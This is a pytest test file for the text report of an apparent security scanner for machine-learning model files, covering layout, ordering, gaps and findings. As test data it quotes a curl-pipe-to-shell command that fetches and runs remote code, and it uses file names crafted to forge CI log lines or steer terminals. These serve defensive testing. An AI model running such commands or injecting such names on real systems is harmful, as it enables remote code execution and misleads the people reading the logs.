"""The text report, as the person at the terminal sees it. Read the golden files: they are the specification."""

import re

import msgspec
import pytest

from modelairlock.records.coverage import EXPLANATIONS, NOT_KEPT, Because, Coverage, Gap
from modelairlock.records.scan import ScanRecord
from modelairlock.records.text import columns
from tests.golden import same_as
from tests.outputs.canonical import (
    ALL,
    CLEAR_ONE,
    FLAGGED_ONE,
    FOLDER,
    HOSTILE_NAMES,
    HUNDRED_CLEAR,
    NOTHING,
    TOOL,
    VIEW,
    WEAK,
    clear_subject,
    gap_subject,
    pickle_flagged,
    record,
)
from tests.outputs.hostile import hidden_in, rendered, without_colour


@pytest.mark.parametrize("name", ALL)
def test_golden(name: str) -> None:
    same_as(f"{name}.txt", rendered("text", ALL[name]))


@pytest.mark.parametrize("width", [60, 100, 160])
def test_golden_on_terminals(width: int) -> None:
    same_as(f"folder_{width}.txt", rendered("text", FOLDER, VIEW._replace(width=width, seconds=1.26)))


def test_golden_verbose() -> None:
    same_as("folder_verbose.txt", rendered("text", FOLDER, VIEW._replace(verbose=True)))


def test_golden_weak_isolation_names_what_is_missing() -> None:
    tool = {"tool": type(TOOL)(name="m", version="1", rules_digest="", profiles_digest="", isolation=WEAK)}
    same_as("weak.txt", rendered("text", record(clear_subject("a.safetensors"), **tool)))


def test_no_name_chooses_where_a_line_of_a_log_begins() -> None:
    for text in (f"{'y' * length} ::error title=x::hello.bin" for length in range(60, 100)):
        lines = rendered("text", record(pickle_flagged(text), pickle_flagged("b.pkl"))).splitlines()
        assert not [line for line in lines if line.lstrip().startswith(("::", "\\x3a:"))]
        assert sum("error title" in line for line in lines) == 1


@pytest.mark.parametrize("width", [1, 20, 40, 60, 80, 200])
def test_no_line_is_longer_than_the_terminal(width: int) -> None:
    for name in ("folder", "hostile_names"):
        lines = rendered("text", ALL[name], VIEW._replace(width=width)).splitlines()
        longest = max(lines, key=columns)
        assert columns(longest) <= max(width, 40), longest


@pytest.mark.parametrize("view", [VIEW, VIEW._replace(width=80, colour=True), VIEW._replace(verbose=True)])
def test_hostile_names_neither_steer_the_terminal_nor_forge_a_line(view) -> None:
    text = without_colour(rendered("text", HOSTILE_NAMES, view))
    assert not hidden_in(text)
    at_the_edge = [line.split()[0] for line in text.splitlines() if line and not line.startswith(" ")]
    assert at_the_edge == ["FLAGGED", "FLAGGED", "INCOMPLETE", "CLEAR", "4"], at_the_edge


def test_colour_changes_nothing_but_colour() -> None:
    coloured = rendered("text", FOLDER, VIEW._replace(width=90, colour=True))
    assert "\x1b[1;31mFLAGGED\x1b[0m" in coloured
    assert without_colour(coloured) == rendered("text", FOLDER, VIEW._replace(width=90))


def test_the_verdict_stands_first() -> None:
    for one in ALL.values():
        assert rendered("text", one).startswith(one.verdict.value.upper())


def test_flagged_before_incomplete_before_clear() -> None:
    text = rendered("text", FOLDER)
    assert text.index("\nFLAGGED") < text.index("\nINCOMPLETE") < text.index("\nCLEAR")


def test_a_hundred_clear_files_are_a_few_lines() -> None:
    assert len(rendered("text", HUNDRED_CLEAR).splitlines()) < 10


def test_verbose_names_every_file() -> None:
    text = rendered("text", HUNDRED_CLEAR, VIEW._replace(verbose=True))
    assert all(subject.path in text for subject in HUNDRED_CLEAR.subjects)


def test_clear_says_what_it_does_not_mean() -> None:
    text = rendered("text", CLEAR_ONE)
    assert "safetensors.safe_open" in text
    assert "1.1 GB passed over by design" in text
    assert "weights that were trained to misbehave" in text


def test_the_same_finding_in_many_files_is_told_once() -> None:
    text = rendered("text", record(*(pickle_flagged(f"{n}.pkl") for n in range(1000))))
    assert text.count("loading it would call") == 1
    assert "999 other files" in text
    assert len(text.splitlines()) < 15


@pytest.mark.parametrize("because", Because)
def test_every_reason_for_a_gap_says_what_to_do(because: Because) -> None:
    text = " ".join(rendered("text", record(gap_subject("a", because, "here"))).split())
    assert all(sentence in text for sentence in EXPLANATIONS[because])


def test_many_different_gaps_stay_readable() -> None:
    text = rendered("text", record(*(gap_subject(f"{n}.pkl", Because.MALFORMED, f"byte {n}") for n in range(5000))))
    assert len(text.splitlines()) < 25
    assert "4,994 gaps more" in text


def test_a_gap_in_a_member_is_not_all_of_its_file() -> None:
    whole = [gap_subject(f"{n}.bin", Because.UNRECOGNISED, "") for n in range(2)]
    assert "all of it, in 2 files: 0.bin, 1.bin" in rendered("text", record(*whole))
    member = msgspec.structs.replace(whole[1], path="1.bin!inside")
    box = msgspec.structs.replace(whole[1], coverage=Coverage(size_bytes=5_000), members=(member,))
    assert "all of it, in 2 files: 0.bin, 1.bin!inside" in rendered("text", record(whole[0], box))
    part = msgspec.structs.replace(whole[1], coverage=Coverage(size_bytes=9_000, gaps=whole[1].coverage.gaps))
    text = rendered("text", record(whole[0], part))
    assert "\n            0.bin\n" in text
    assert "\n            1.bin@0..5000\n" in text


def test_gaps_that_are_alike_keep_their_places() -> None:
    gap = Gap(start=3, end=9, because=Because.MALFORMED, detail="expected a size")
    coverage = Coverage(size_bytes=9, gaps=(gap,))
    members = [
        msgspec.structs.replace(gap_subject(f"{n % 2}.zip!m{n}", Because.MALFORMED, ""), coverage=coverage)
        for n in range(9)
    ]
    boxes = [
        msgspec.structs.replace(
            gap_subject(f"{n}.zip", Because.MALFORMED, ""), coverage=Coverage(size_bytes=9), members=(*members[n::2],)
        )
        for n in range(2)
    ]
    text = rendered("text", record(*boxes))
    assert "expected a size, in 9 places of 2 files: 0.zip!m0@3..9, 0.zip!m2@3..9" in text
    assert "and 5 more with -v" in text
    text = rendered("text", record(*boxes), VIEW._replace(verbose=True))
    assert all(f"{n % 2}.zip!m{n}@3..9" in text for n in range(9))
    alone = rendered("text", record(boxes[0]), VIEW._replace(verbose=True))
    assert "m0, bytes 3..9, m2, bytes 3..9, m4, bytes 3..9" in alone


def _several(messages: dict[str, str], count: int = 1) -> ScanRecord:
    subject = pickle_flagged("a.pkl")
    [first] = subject.findings
    (fact, *_) = first.evidence
    found = tuple(
        msgspec.structs.replace(
            first, message=message, cwe=(cwe,), evidence=(msgspec.structs.replace(fact, count=count),)
        )
        for message, cwe in messages.items()
    )
    return record(msgspec.structs.replace(subject, findings=found))


def test_why_is_said_once_of_a_file_however_many_findings_a_rule_has() -> None:
    several = _several({f"loading it would call {n}": f"CWE-{n}" for n in range(4)})
    text = rendered("text", several)
    assert text.count("harmful-call (CWE-0, CWE-1, CWE-2, CWE-3, AML.T0011.000): A pickle calls") == 1
    assert text.count(" why ") == text.count("  do  ") == 1
    assert text.count("where") == 4
    verbose = rendered("text", several, VIEW._replace(verbose=True))
    assert all(f"harmful-call (CWE-{n}, AML" in verbose for n in range(4)), "which weakness belongs to which finding"
    assert verbose.count("A pickle calls something that is known") == 1


def test_what_is_seen_is_said_only_when_the_message_has_not_said_it() -> None:
    said = "loading it would call posix.system('curl -s https://example.invalid/x | sh'), which runs a command"
    for view in (VIEW, VIEW._replace(verbose=True)):
        assert " seen " not in rendered("text", _several({said: "CWE-78"}), view)
        assert " seen " in rendered("text", _several({"it does something": "CWE-78"}), view)
    often = rendered("text", _several({said: "CWE-78"}, count=1_200))
    assert "(the first of 1,200 times)" in often
    assert " seen " not in often


def test_every_list_that_is_cut_says_how_to_see_the_rest_and_verbose_cuts_none() -> None:
    for name, one in ALL.items():
        for line in rendered("text", one).splitlines():
            assert not re.search(r" more(?! with -v)", line.replace("medium or more", "")), (name, line)
        assert "with -v" not in rendered("text", one, VIEW._replace(verbose=True)), name


def test_titles_and_lists_name_a_file_the_same_way() -> None:
    text = rendered("text", FOLDER)
    assert text.count("hub/") == 1, "the headline says which folder all files are in"
    assert rendered("text", FLAGGED_ONE).startswith("FLAGGED     models/pytorch_model.bin")


def test_verbose_names_every_name_and_the_files_it_is_in() -> None:
    subjects = [gap_subject(f"{n}.pkl", Because.UNVOUCHED, f"lib.Name{n % 60} (imported)") for n in range(120)]
    brief = " ".join(rendered("text", record(*subjects)).split())
    assert "lib.Name11 and 48 more with -v" in brief
    text = rendered("text", record(*subjects), VIEW._replace(verbose=True))
    assert all(f"lib.Name{n} (imported) → 2 files: {n}.pkl, {n + 60}.pkl\n" in text for n in range(60))
    alone = rendered("text", record(subjects[0]), VIEW._replace(verbose=True))
    assert "names  lib.Name0 (imported)\n" in alone


def test_of_a_known_name_it_says_what_nobody_vouches_for() -> None:
    details = ("numpy.dtype (imported, given a state that nobody vouches for)", "lib.Name (imported, called)")
    subjects = [gap_subject(f"{n}.pkl", Because.UNVOUCHED, detail) for n, detail in enumerate(details)]
    assert "names  numpy.dtype (its state), lib.Name\n" in rendered("text", record(*subjects))
    assert all(detail in rendered("text", record(*subjects), VIEW._replace(verbose=True)) for detail in details)


def test_verbose_names_the_gaps_of_a_flagged_file_too() -> None:
    text = rendered("text", FLAGGED_ONE, VIEW._replace(verbose=True))
    assert "gap  malformed: expected an opcode, got 0xff (archive/data.pkl, bytes 3900..4000)" in text


def test_what_is_judged_again_needs_no_wall_and_no_permissions() -> None:
    subjects = [gap_subject("a", Because.UNREADABLE, NOT_KEPT), gap_subject("b", Because.UNREADABLE, "is a fifo")]
    text = " ".join(rendered("text", record(*subjects, rejudged=True)).split())
    assert "Judged again from the cache; no file was read. Isolation when it was read: confined or better." in text
    assert "--require" not in text
    assert "Scan the file again, by itself" in text
    assert text.count("gap unreadable") == 2, "one may be mended by scanning, the other by permissions"
    assert "permissions" not in rendered("text", record(subjects[0], rejudged=True))
    for output in ("markdown", "sarif", "junit"):
        assert "ermissions" not in rendered(output, record(subjects[0], rejudged=True)).partition("results")[2], output


@pytest.mark.parametrize(
    ("paths", "said"),
    [
        (("a/b/x.pkl", "a/b/y.pkl"), ("in a/b/", "files: x.pkl, y.pkl")),
        (("a/bx.pkl", "a/by.pkl"), ("in a/", "files: bx.pkl, by.pkl")),
        (("/x.pkl", "/y.pkl"), ("files: /x.pkl, /y.pkl",)),
        (("/x.pkl", "a/y.pkl"), ("files: /x.pkl, a/y.pkl",)),
    ],
)
def test_lists_leave_out_the_folder_that_all_files_are_in(paths: tuple[str, ...], said: tuple[str, ...]) -> None:
    text = rendered("text", record(*(gap_subject(path, Because.UNVOUCHED, "x.Y") for path in paths)))
    assert all(each in text for each in said), text


def test_nothing_scanned_is_said() -> None:
    assert "nothing was scanned" in rendered("text", NOTHING)
    assert "gone.pt" in rendered("text", NOTHING)


def test_a_finding_says_why_where_and_what_to_do() -> None:
    text = rendered("text", FLAGGED_ONE)
    for part in ("critical", "archive/data.pkl, bytes 17..60, 90..133", "harmful-call", "CWE-502", "Do not load it"):
        assert part in text
